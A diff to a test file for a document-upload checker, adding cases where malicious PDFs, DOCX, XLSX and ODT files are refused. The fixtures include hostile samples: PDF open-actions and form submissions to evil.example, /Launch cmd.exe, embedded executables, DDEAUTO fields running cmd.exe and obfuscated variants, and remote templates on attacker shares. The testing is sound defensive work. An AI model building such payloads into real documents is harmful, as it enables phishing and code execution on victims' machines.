@@ -4,6 +4,7 @@ import { tmpdir } from 'node:os'
 import path from 'node:path'
 import { deflateSync } from 'node:zlib'
 import fc from 'fast-check'
+import sharp from 'sharp'
 import { examine } from '../../src/files/examine'
 import { filesVi } from '../../src/files/words.vi'
 import { translate } from '../../src/i18n'
@@ -41,6 +42,7 @@ const refuses = (reason: string, cases: Case[]) =>
     expect(await outcome(name, await make())).toBe(reason)
   })
 
+const ADDRESS = '<< /Type /Action /S /URI /URI (https://evil.example) >>'
 const SCRIPT = '<< /S /JavaScript /JS (app.alert(1)) >>'
 
 const TAKEN: [string, string, () => Buffer | Promise<Buffer>][] = [
@@ -169,6 +171,31 @@ describe('PDF', () => {
     ['after a dictionary that is not closed', 'a.pdf', () => pdf(['<< /A (b', SCRIPT])],
     ['after a bracket in a string', 'a.pdf', () => pdf([`<< /A (\\)>>) /B ${SCRIPT} >>`])],
     ['in a name tree', 'a.pdf', () => pdf([], { catalog: '/Names << /JavaScript 7 0 R >>' })],
+    ['sending a form', 'a.pdf', () => pdf(['<< /S /SubmitForm /F (http://evil.example) >>'])],
+    ['fetching data', 'a.pdf', () => pdf(['<< /S /ImportData /F (a.fdf) >>'])],
+    ['opening a file inside another', 'a.pdf', () => pdf([objectStream('<< /S /GoToE /F (a) >>')])],
+    ['an action without a click', 'a.pdf', () => pdf(['<< /Type /Page /AA << /O 7 0 R >> >>'])],
+    ['an address at opening', 'a.pdf', () => pdf([], { catalog: `/OpenAction ${ADDRESS}` })],
+    ['another file at opening', 'a.pdf', () => pdf([], { catalog: '/Open#41ction << /S /GoToR /F (a) >>' })],
+    [
+      'an address after a page',
+      'a.pdf',
+      () => pdf([], { catalog: `/OpenAction << /S /GoTo /Next ${ADDRESS} >>` }),
+    ],
+    ['in another object', 'a.pdf', () => pdf([ADDRESS], { catalog: '/OpenAction 1 0 R' })],
+    ['its kind in another object', 'a.pdf', () => pdf(['<< /S 9 0 R >>'], { catalog: '/OpenAction 1 0 R' })],
+    [
+      'its number behind a comment',
+      'a.pdf',
+      () => pdf([`1 0 % \n obj ${ADDRESS}`], { catalog: '/OpenAction 77 0 R' }),
+    ],
+    [
+      'in an object of a stream',
+      'a.pdf',
+      () => pdf([objectStream(ADDRESS)], { catalog: '/OpenAction 7 0 R' }),
+    ],
+    ['said in a stream', 'a.pdf', () => pdf([ADDRESS, objectStream('<</OpenAction 1 0 R>>')])],
+    ['two openings', 'a.pdf', () => pdf([ADDRESS], { catalog: '/OpenAction 9 0 R /OpenAction 1 0 R' })],
     ['launching a program', 'a.pdf', () => pdf(['<< /S /Launch /F (cmd.exe) >>'])],
     ['rich media', 'a.pdf', () => pdf(['<< /Subtype /RichMedia >>'])],
     ['an XFA form', 'a.pdf', () => pdf([], { catalog: '/AcroForm << /XFA 7 0 R >>' })],
@@ -206,7 +233,37 @@ describe('PDF', () => {
     ['an object in the bytes of a stream', 'a.pdf', () => pdf([stream('', `5 0 obj ${SCRIPT} endobj`)])],
   ])
 
+  refuses('embedded', [
+    ['an attachment', 'a.pdf', () => pdf(['<< /Type /Filespec /F (a.exe) /EF << /F 2 0 R >> >>'])],
+    ['its bytes', 'a.pdf', () => pdf([stream('/Type /EmbeddedFile', 'MZ')])],
+    ['in the list of names', 'a.pdf', () => pdf([objectStream('<< /EmbeddedFiles 8 0 R >>')])],
+  ])
+
   const harmless: [string, () => Buffer][] = [
+    ['a link to click', () => pdf([`<< /Type /Annot /Subtype /Link /A ${ADDRESS} >>`])],
+    [
+      'a link in another object',
+      () => pdf([ADDRESS, '<< /S /GoTo /D [3 0 R] >>'], { catalog: '/OpenAction 2 0 R' }),
+    ],
+    ['a link to another file', () => pdf(['<< /Subtype /Link /A << /S /GoToR /F (a.pdf) >> >>'])],
+    ['a page at opening', () => pdf([], { catalog: '/OpenAction [1 0 R /Fit] /URI << /Base (a) >>' })],
+    ['a place at opening', () => pdf([], { catalog: '/OpenAction << /S /GoTo /D [1 0 R /Fit] >>' })],
+    [
+      'a place in another object, and bookmarks',
+      () =>
+        pdf([objectStream('<< /S /GoTo /D (a) >>'), '<< /Title (a) /Next 1 0 R >>'], {
+          catalog: '/OpenAction 7 0 R',
+        }),
+    ],
+    [
+      'a digital signature',
+      () =>
+        pdf([
+          '<< /Type /Sig /Filter /Adobe.PPKLite /ByteRange [0 9 9 9] /Contents <00> >>',
+          '<< /FT /Sig /V 1 0 R >>',
+        ]),
+    ],
+    ['fonts that are called so', () => pdf(['<< /Font /AA /XObject /EF >>'])],
     ['names that only begin so', () => pdf(['<< /JSomething 1 /XFAx 2 /Launcher 3 >>'])],
     ['words in a string', () => pdf(['<< /URI (https://bao.vn/JavaScript \\) /JS (/Launch)) >>'])],
     ['words in a hex string', () => pdf(['<< /A <2f4a53> >>'])],
@@ -475,7 +532,165 @@ describe('Office', () => {
   })
 })
 
+describe('what a document fetches when it is opened', () => {
+  const related = (type: string, target: string, part = 'word/document.xml') =>
+    docx(samples.relations(part, type, target))
+  const linkedSheet = (mode: string, type: string, target: string) =>
+    xlsx(samples.relations('xl/externalLinks/externalLink1.xml', type, target, mode))
+  const { field, wordPart, odtText } = samples
+  const word = (body: string) => docx(wordPart(body))
+
+  refuses('remote', [
+    ['a picture', 'a.docx', () => related('image', 'http://evil.example/a.png')],
+    ['a picture on a share', 'a.docx', () => related('image', 'file://///evil.example/share/a.png')],
+    [
+      'addresses for a letter',
+      'a.docx',
+      () => related('mailMergeSource', 'file://///evil/x.odc', 'word/settings.xml'),
+    ],
+    ['a frame', 'a.docx', () => related('frame', 'a.htm', 'word/webSettings.xml')],
+    ['a part of the document', 'a.docx', () => related('subDocument', 'file:///\\\\evil\\a.docx')],
+    ['a film', 'a.docx', () => related('video', 'https://evil.example/a.mp4')],
+    [
+      'a link that is none',
+      'a.docx',
+      () => related('image" a=\' Type="x/hyperlink"\' b="', 'http://evil.example/a'),
+    ],
+    ['another workbook', 'a.xlsx', () => linkedSheet('External', 'externalLinkPath', 'http://evil/b.xlsx')],
+    [
+      'a program that Excel asks',
+      'a.xlsx',
+      () =>
+        xlsx(
+          samples.relations('xl/workbook.xml', 'externalLink', 'externalLinks/externalLink1.xml', 'Internal'),
+          {
+            name: 'xl/externalLinks/externalLink1.xml',
+            bytes: '<ddeLink ddeService="cmd" ddeTopic="/c a"/>',
+          },
+        ),
+    ],
+    ['DDE', 'a.docx', () => word(field(' DDE excel "C:\\\\a.xlsx" r1c1 '))],
+    ['DDE cut in pieces', 'a.docx', () => word(field(' D', 'DEA', 'UTO c:\\\\cmd.exe "/k calc"'))],
+    ['DDE beside a field', 'a.docx', () => word(field('PAGE') + field('DDE') + field(' QUOTE 99 109'))],
+    ['DDE escaped', 'a.docx', () => word(field('&#x44;&#68;E excel'))],
+    ['DDE in one word', 'a.docx', () => word('<w:fldSimple w:instr=" DDEAUTO cmd &quot;/k&quot;"/>')],
+    ['DDE by another prefix', 'a.docx', () => word('<ü:instrText>DDEAUTO cmd</ü:instrText>')],
+    [
+      'DDE cut by a field',
+      'a.docx',
+      () => word(`${field('PAGE D')}${field()}<w:instrText>DE cmd</w:instrText>`),
+    ],
+    ['DDE before a bracket', 'a.docx', () => word(field('DDEAUTO cmd "/k" />'))],
+    ['DDE under another name', 'a.docx', () => docx(wordPart(field('DDEAUTO cmd'), 'x/y.XML'))],
+    ['a picture by a field', 'a.docx', () => word(field('INCLUDEPICTURE "https://evil.example/a" \\d'))],
+    ['cut in pieces', 'a.docx', () => word(field('INCLUDE', 'PICTURE "ht', 'tps://evil.example/a"'))],
+    ['text on a share', 'a.docx', () => word(field('INCLUDETEXT \\\\\\\\evil\\\\a.docx'))],
+    ['an address that is made', 'a.docx', () => word(field('INCLUDETEXT "') + field('QUOTE 104 116'))],
+    ['an object by a field', 'a.docx', () => word(field('LINK Word.Document "http://evil.example/a"'))],
+    [
+      'a picture in ODT',
+      'a.odt',
+      () => odt(odtText('<draw:image xlink:href="https://evil.example/a.png" xlink:actuate="onLoad"/>')),
+    ],
+    ['on a share', 'a.odt', () => odt(odtText('<draw:image xlink:href="file://evil/a.png"/>'))],
+    ['beside the document', 'a.odt', () => odt(odtText('<draw:object xlink:href="../b.ods"/>'))],
+    ['a section', 'a.odt', () => odt(odtText('<text:section-source xlink:href="smb://evil/a.odt"/>'))],
+    ['by another prefix', 'a.odt', () => odt(odtText('<ü:plugin l:href="&#104;ttp://evil.example"/>'))],
+    [
+      'a link that is none',
+      'a.odt',
+      () => odt(odtText('<draw:image a="&lt;text:a&gt;" b:href="http://evil"/>')),
+    ],
+    ['behind a bracket', 'a.odt', () => odt(odtText('<draw:image a="&#34;>" b:href="http://evil"/>'))],
+    [
+      'a picture of a style',
+      'a.odt',
+      () => odt({ name: 'styles.xml', bytes: '<style:background-image xlink:href="//evil/a.png"/>' }),
+    ],
+    [
+      'a template from elsewhere',
+      'a.odt',
+      () => odt({ name: 'meta.xml', bytes: '<meta:template xlink:href="https://evil.example/a.ott"/>' }),
+    ],
+    ['a picture on a button', 'a.odt', () => odt(odtText('<form:button form:image-data="http://evil/a"/>'))],
+    ['data of a program', 'a.odt', () => odt(odtText('<text:dde-connection-decl office:name="a"/>'))],
+  ])
+
+  refuses('unchecked', [
+    [
+      'text of Word where Excel has its own',
+      'a.docx',
+      () => docx(wordPart(field('DDEAUTO cmd'), 'xl/a.xml')),
+    ],
+    ['fields without end', 'a.docx', () => word(field('INCLUDETEXT a '.repeat(400_000)))],
+    ['a comment in a field', 'a.docx', () => word('<w:instrText>DDE<!-- -->AUTO cmd</w:instrText>')],
+    ['hidden text in a field', 'a.docx', () => word('<w:instrText><![CDATA[DDEAUTO cmd]]></w:instrText>')],
+    [
+      'text of Word where it is not looked for',
+      'a.docx',
+      () =>
+        zip([
+          {
+            ...samples.contentTypes(),
+            bytes: `<Types><Override PartName="/word/a.png" b='PartName="/a.xml"' ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`,
+          },
+        ]),
+    ],
+  ])
+
+  const harmless: [string, string, () => Buffer][] = [
+    ['a link to click', 'a.docx', () => related('hyperlink', 'https://chinhphu.vn/a')],
+    ['a link to a share', 'a.docx', () => related('hyperlink', 'file:///\\\\may-chu\\chung\\a.docx')],
+    [
+      'a picture inside',
+      'a.docx',
+      () => docx(samples.relations('word/document.xml', 'image', 'a.png', 'Internal')),
+    ],
+    ['a number of a page', 'a.docx', () => word(field(' PAGE ', ' \\* MERGEFORMAT '))],
+    ['a link as a field', 'a.docx', () => word(field(' HYPERLINK "https://moh.gov.vn/dde" '))],
+    [
+      'DDE in the text',
+      'a.docx',
+      () => word('<w:t>Dư lượng DDT và DDE trong đất, INCLUDEPICTURE "http://a"</w:t>'),
+    ],
+    ['a picture of the author', 'a.docx', () => word(field('INCLUDEPICTURE "C:\\\\Anh\\\\a.png" \\d'))],
+    ['a picture of a letter', 'a.docx', () => word(field('INCLUDEPICTURE "cid:a@b" \\* MERGEFORMATINET'))],
+    ['a link of Excel', 'a.xlsx', () => linkedSheet('External', 'hyperlink', 'https://chinhphu.vn')],
+    ['a link in ODT', 'a.odt', () => odt(odtText('<text:a xlink:href="https://chinhphu.vn/">x</text:a>'))],
+    [
+      'a picture and an object in the package',
+      'a.odt',
+      () => odt(odtText('<draw:image xlink:href="Pictures/a.png"/><draw:object xlink:href="./Object 1"/>')),
+    ],
+    ['words about a link', 'a.odt', () => odt(odtText('<text:p>href="http://a" src="//b"</text:p>'))],
+    [
+      'a template on a disk',
+      'a.odt',
+      () => odt({ name: 'meta.xml', bytes: '<meta:template xlink:href="file:///C:/Mau/a.ott"/>' }),
+    ],
+  ]
+  test.each(harmless)('%s in %s: taken', async (_, name, make) => {
+    expect(await outcome(name, make())).toBe(name)
+  })
+})
+
 describe('images', () => {
+  test('one is decoded at a time', async () => {
+    const image = await samples.png(200, 200)
+    let most = 0
+    const count = (tasks: number) => (most = Math.max(most, tasks))
+    sharp.queue.on('change', count)
+    await Promise.all(Array.from({ length: 5 }, () => examined('a.png', image)))
+    sharp.queue.off('change', count)
+    expect(most).toBe(1)
+  })
+
+  test('one that fails lets the next in', async () => {
+    const half = (await samples.png()).subarray(0, 400)
+    const names = await Promise.all([outcome('a.png', half), outcome('b.png', await samples.png())])
+    expect(names).toEqual(['damaged', 'b.png'])
+  })
+
   refuses('image_size', [
     ['50,000 by 50,000 pixels', 'a.png', () => samples.pngClaiming(50_000, 50_000)],
     ['a long strip', 'a.png', () => samples.pngClaiming(20_001, 1)],
